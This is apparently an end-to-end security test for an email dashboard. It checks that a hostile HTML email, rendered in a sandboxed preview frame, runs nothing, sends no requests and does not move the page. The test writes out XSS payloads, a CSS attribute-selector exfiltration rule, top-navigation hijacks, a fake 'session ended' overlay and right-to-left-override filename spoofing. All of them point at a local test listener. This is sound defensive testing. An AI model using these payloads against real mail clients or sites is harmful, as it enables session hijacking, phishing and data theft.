// An email that attacks whoever looks at it: nothing of it runs, nothing is asked for, and the page stays as it is.

import { expect } from "bun:test";
import { journey, useSandbox } from "../../support/browser/journey.ts";
import type { Visitor } from "../../support/browser/visitor.ts";
import { signInToSandbox } from "../../support/browser/people.ts";
import { startStranger } from "../../support/browser/stranger.ts";

const sandbox = useSandbox();

const buildHtml = (url: string) => `<!doctype html><head>
<base href="${url}/base/"><meta http-equiv="refresh" content="0; url=${url}/refresh">
<link rel="stylesheet" href="${url}/style"><link rel="dns-prefetch" href="${url}"><link rel="preload" as="image" href="${url}/preload">
<style>@import "${url}/import"; @font-face { font-family: x; src: url(${url}/font) } body { font-family: x; background: url(${url}/background) }
input[value^="a"] { background: url(${url}/exfiltrate) }</style></head><body onload="fetch('${url}/onload')">
<script>parent.owned = top.owned = 1; fetch("${url}/script"); window.open("${url}/open"); top.location = "${url}/top"</script>
<img src="${url}/image" srcset="${url}/srcset 2x" onerror="top.owned = 1"><iframe src="${url}/frame"></iframe><object data="${url}/object"></object>
<video poster="${url}/poster" src="${url}/video" autoplay></video><svg><image href="${url}/svg" /><script>top.owned = 1</script></svg>
<form id="f" action="${url}/form" target="_top"><input name="q" value="a" autofocus onfocus="top.owned = 1"></form>
<a href="${url}/click" target="_top">Click</a></textarea></pre></div><script>top.owned = 1</script>
<p style="position: fixed; inset: 0; background: red; z-index: 99999">Your session has ended</p>`;

/** Markup, overrides of direction, joiners, and a word that never ends. */
const SUBJECT = `<img src=x onerror="owned=1"><script>owned=1</script>\u202E\u2066gnp.exe\u2069 \u200D${"W".repeat(10_000)}`;
/** No longer one is accepted. */
const MAX_SUBJECT = 255;

/** Breaches of the frame's own policy, told by the console; those of ours are counted in the page. */
const OF_FRAME = [
  /^console: .* violates the following Content Security Policy directive: "(?:img-src data:|style-src 'unsafe-inline'|font-src data:|default-src 'none')"/,
  /^console: Blocked (?:script execution|autofocusing) .*sandboxed/,
  /^failed: .* csp$/,
];

journey(
  "a hostile email is shown in its frame: no request, no breach of ours, the page unmoved",
  async ({ visit, cleanup }) => {
    const { origin, apiKey, workspaceId, domain } = sandbox();
    const stranger = startStranger();
    cleanup.add(() => stranger[Symbol.asyncDispose]());
    const headers = { "x-api-key": apiKey, "content-type": "application/json" };
    const from = `"<b>Ana</b>" <a@${domain}>`;
    const send = async (subject: string) => {
      const answer = await fetch(`${origin}/api/v1/emails`, {
        method: "POST",
        headers,
        body: JSON.stringify({ from, to: "rui@example.com", subject, html: buildHtml(stranger.neighbour) }),
      });
      return (await answer.json()) as { data?: { id: string }; errors?: { field?: string }[] };
    };
    expect((await send(SUBJECT.slice(0, 10_000))).errors).toMatchObject([{ field: "subject" }]);
    const { data } = await send(SUBJECT.slice(0, MAX_SUBJECT));
    const ana = await visit(origin);
    await signInToSandbox(ana, sandbox());
    const { page } = ana;
    // The browser tells of each request that the frame's policy stopped; the stranger hears of none.
    ana.allow(...OF_FRAME, new RegExp(`^stranger: GET ${stranger.neighbour}/`));
    await ana.context.addInitScript(
      "globalThis.breaches = []; addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => breaches.push(`${effectiveDirective} ${blockedURI}`))",
    );
    for (const path of ["", "/emails", `/emails/${data?.id ?? ""}`]) {
      const url = `/dashboard/w/${workspaceId}${path}`;
      await page.setViewportSize({ width: path === "/emails" ? 320 : 1280, height: 800 });
      await page.goto(url);
      await page.getByText("<img src=x").first().waitFor();
      if (path.includes("/emails/")) await showPreview(ana);
      for (const summary of await page.locator("summary").all()) await summary.click();
      // What a message begins by itself it has begun when two frames are drawn.
      await page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))");
      expect(new URL(page.url()).pathname).toBe(url);
      expect(await page.evaluate("[globalThis.owned ?? null, breaches]")).toEqual([null, []]);
      expect(await page.title()).not.toMatch(/<img|[\u202A-\u202E\u2066-\u2069]/);
      expect(await page.evaluate<number>("document.documentElement.scrollWidth - innerWidth")).toBeLessThanOrEqual(0);
    }
    // Pasted into the palette, as words and as an address.
    await page.keyboard.press("ControlOrMeta+K");
    const palette = page.getByRole("dialog");
    for (const words of [SUBJECT, `${SUBJECT.replaceAll(/\s/g, "")}@example.com`]) {
      await palette.getByRole("combobox").fill(words);
      await palette.getByText(words === SUBJECT ? "Nothing fits." : "Emails to").waitFor();
      const { width = Infinity } = (await palette.boundingBox()) ?? {};
      expect(width).toBeLessThan(800);
      expect(await palette.locator("img, script").count()).toBe(0);
    }
    expect(await page.evaluate<number>("document.documentElement.scrollWidth - innerWidth")).toBeLessThanOrEqual(0);
    expect(await page.evaluate("globalThis.owned ?? null")).toBeNull();
    expect(ana.context.pages()).toHaveLength(1);
    expect(stranger.heard).toEqual([]);
  },
);

/** Waits for the frame, and clicks its link, which leads nowhere. */
async function showPreview({ page }: Visitor): Promise<void> {
  const frame = page.frameLocator("main iframe");
  await frame.getByText("Your session has ended").waitFor();
  expect(await page.locator("main iframe").getAttribute("sandbox")).toBe("");
  await frame.getByText("Click").dispatchEvent("click");
  const beside = await page.locator("main .preview").innerText();
  expect(beside).toMatch(/Not loaded from elsewhere/);
}
